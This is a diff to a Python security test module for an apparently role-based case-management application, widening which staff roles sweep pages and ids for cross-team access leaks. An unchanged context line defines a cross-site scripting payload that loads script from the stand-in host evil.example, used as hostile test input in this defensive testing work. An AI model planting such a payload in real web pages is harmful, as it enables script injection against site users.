@@ -16,17 +16,21 @@ from tests.cast import Cast, SignIn
 from tests.security import crawl
 from tests.security.crawl import Ids
 from tests.security.pages import PAGES
-from tests.security.world import HOMES, away_from, fill, home_of
+from tests.security.world import away_from, fill, home_of
 
 MINE, THEIRS, EVIL = "CANARY-MINE", "CANARY-THEIRS", "EVIL-WORD"
 MARKUP = '"><script src=//evil.example></script><img src=x onerror=alert(1)>'
 EVIL_DAY, EVIL_NUMBER = dt.date(1961, 1, 9), 76543
 OPENED = {200, 302}
 ASKED = ("all", "page", "case", "participant", "user", "id", "undo", "job", "next", "code", "who")
-WORKERS = [role for role in HOMES if role != Role.PROVIDER]
 
 # Every role opens every page in test_pages.py; who sweeps every id stands for a program.
-SWEPT = [Role.MESSENGER, Role.HOSPITAL_SPECIALIST, Role.GVI_COORDINATOR]
+SWEPT = [
+    Role.MESSENGER,
+    Role.HOSPITAL_SPECIALIST,
+    Role.GVI_COORDINATOR,
+    Role.REENTRY_COORDINATOR,
+]
 FITTING = ("case", "participant", "consent", "referral", "document")
 
 Figure = Callable[[str, int], None]
@@ -188,7 +192,7 @@ class TestTheSweepsCanFail:
             "emergency_use",
             "lost_right",
         }
-        for home in {home_of(cast, role) for role in WORKERS}:
+        for home in {home_of(cast, role) for role in SWEPT}:
             assert isinstance(home, Team)
             kinds |= set(fill(cast, home, cast.system, MINE))
 
